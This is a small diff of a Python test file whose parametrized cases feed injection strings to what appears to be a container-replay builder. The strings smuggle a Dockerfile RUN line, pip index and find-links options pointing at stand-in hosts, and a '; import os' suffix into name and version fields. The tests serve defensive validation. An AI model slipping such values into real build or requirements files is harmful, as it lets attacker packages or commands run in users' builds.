@@ -104,7 +104,7 @@ def test_a_container_holds_all_that_the_replay_needs_and_its_command_replays(
     ("name", "recorded"),
     [
         ("zz\nRUN touch pwned\n#", "1 @ file:///x"),
-        ("zz", "1\n--extra-index-url http://evil.example/packages"),
+        ("zz", "1\n--find-links https://files.example/packages"),
         ("zz", "1; import os"),
         ("torch", "1\nRUN x+cpu"),
         ("-r", "1"),
